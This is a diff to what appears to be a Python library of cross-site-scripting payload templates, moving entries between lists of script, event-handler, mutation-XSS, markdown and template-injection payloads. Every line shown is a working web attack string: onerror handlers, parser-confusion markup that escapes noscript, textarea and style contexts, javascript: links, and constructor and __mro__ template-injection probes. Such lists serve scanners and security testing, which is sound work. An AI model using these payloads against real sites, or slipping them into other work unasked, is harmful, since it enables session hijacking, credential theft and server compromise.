@@ -32,12 +32,12 @@ _SCRIPTS = [
     '-->"><script>{js}</script>',
     "]]><script>{js}</script>",
     "<!--><script>{js}</script>-->",
-    "<![CDATA[<script>{js}</script>]]>",
     "<?xml version='1.0'?><script>{js}</script>",
     '<script type=importmap>{{"imports":{{"x":"{url}"}}}}</script>',
     '<script type=speculationrules>{{"prefetch":[{{"urls":["{url}"]}}]}}</script>',
 ]
 _HANDLERS = [
+    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
     "'\"><img src=x onerror={js}>",
     '" autofocus onfocus={js} x="',
     "<img src='{url}' onerror='{js}'>",
@@ -97,14 +97,12 @@ _MUTATING = [
     "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror={js}&gt;'>",
     "<svg></p><style><a id='</style><img src=1 onerror={js}>'>",
     "<form><math><mtext></form><form><mglyph><style></math><img src onerror={js}>",
-    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
     "<textarea><img title='</textarea><img src=x onerror={js}>'>",
     "<xmp><p title='</xmp><img src=x onerror={js}>'>",
     "<noembed><img title='</noembed><img src=x onerror={js}>'>",
     "<iframe><img title='</iframe><img src=x onerror={js}>'>",
     "<title><p title='</title><img src=x onerror={js}>'>",
-    "<select><template><style><!--</style><a rel='--></style></template></select>"
-    "<img src=x onerror={js}>'>",
+    "<select><template><style><!--</style><a rel='--></style></template><img onerror={js}>'>",
     "<template><script>{js}</script></template>",
     "<div><template shadowrootmode=open><img src=x onerror={js}></template></div>",
     "<table><td background='{url}'><img src=x onerror={js}></table>",
@@ -211,6 +209,7 @@ _MARKDOWN = [
     "[[1]](javascript:{js})",
 ]
 _WRITTEN = [
+    "<![CDATA[<script>{js}</script>]]>",
     "{{{{constructor.constructor('{js}')()}}}}",
     "{{{{ ''.__class__.__mro__ }}}}{{{{ config }}}}",
     "{{% raw %}}<script>{js}</script>{{% endraw %}}",
